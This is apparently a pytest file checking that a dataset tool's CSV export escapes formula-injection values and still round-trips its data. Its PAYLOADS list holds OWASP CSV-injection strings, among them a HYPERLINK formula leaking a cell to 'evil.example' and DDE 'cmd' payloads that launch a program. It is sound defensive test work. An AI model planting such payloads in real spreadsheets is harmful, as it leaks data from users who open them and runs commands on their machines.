"""Spreadsheet formulas never pass through a CSV output, and the dataset still round-trips; a CSV
saved with ';' separators gets an error that names the separator."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nldtib import read_dataset
from nldtib.dataset.cells import neutralise, restore
from nldtib.dataset.records import Dataset, Node, Rel
from nldtib.dataset.writer import write_dataset
from nldtib.schema import load_schema

# the usual payloads (OWASP "CSV injection"), and values that merely look like them
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "'=already quoted",
    "''=twice",
    "-",
    "it's fine",
    "'quoted'",
]


def _dataset() -> Dataset:
    schema = load_schema()
    nodes = {
        f"o{i}": Node(
            f"o{i}",
            "Organisation",
            {"name": text, "kind": "sme", "aliases": [text, "x"], "description": text, "sensitivity": "public"},
        )
        for i, text in enumerate(PAYLOADS)
    }
    nodes["NL"] = Node("NL", "Country", {"name": "Netherlands", "sensitivity": "public"})
    rels = [Rel("OWNED_BY", "o0", "o1", {"share_pct": 51.0, "source": PAYLOADS[2], "sensitivity": "public"})]
    return Dataset(schema, nodes, rels)


def test_no_written_cell_starts_a_formula_and_the_dataset_round_trips(tmp_path):
    ds = _dataset()
    out = write_dataset(ds, tmp_path / "out")
    for path in out.rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in list(csv.reader(fh))[1:]:
                for cell in row:
                    assert not cell or cell[0] not in "=+-@", (path.name, cell)
    again = read_dataset(out)
    assert again.nodes == ds.nodes and list(again.rels) == list(ds.rels)


def test_cli_csv_export_neutralises(run, tmp_path):
    folder = write_dataset(_dataset(), tmp_path / "data")
    out = tmp_path / "export"
    res = run("--data", str(folder), "export", "csv", "--excel", "-o", str(out))
    assert res.exit_code == 0, res.output
    text = (out / "nodes" / "Organisation.csv").read_text(encoding="utf-8-sig")
    assert "\n'=HYPERLINK" not in text and ",\"'=HYPERLINK(" in text
    assert read_dataset(out).nodes == read_dataset(folder).nodes


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="'=+-@ab\t", max_size=8))
def test_neutralise_is_undone_by_restore(text):
    assert restore(neutralise(text)) == text
    assert not text or neutralise(text)[0] not in "=+-@\t"


def test_numbers_are_not_touched(tmp_path):
    schema = load_schema()
    ds = Dataset(
        schema,
        {"p": Node("p", "Programme", {"name": "P", "kind": "research", "budget_eur": -5.0, "sensitivity": "public"})},
        [],
    )
    out = write_dataset(ds, tmp_path / "n")
    assert (
        ",-5," in (out / "nodes" / "Programme.csv").read_text()
        or ",-5\n" in (out / "nodes" / "Programme.csv").read_text()
    )


@pytest.mark.parametrize("header", ["id;name;kind", "id;name"])
def test_semicolon_separated_csv_names_the_separator(mini, header):
    (mini / "nodes" / "Organisation.csv").write_text(f"{header}\nacme;Acme;sme\n", encoding="utf-8")
    from nldtib.dataset.reader import validate_dataset

    _, issues = validate_dataset(mini)
    assert str(issues[0]) == (
        f"{mini}/nodes/Organisation.csv:1: the fields are separated by ';' (as Excel writes CSV in a Dutch or other "
        "European locale); nldtib's CSV uses ',': save as 'CSV UTF-8 (comma delimited)', or keep the data in a "
        "workbook (nldtib export xlsx)"
    )
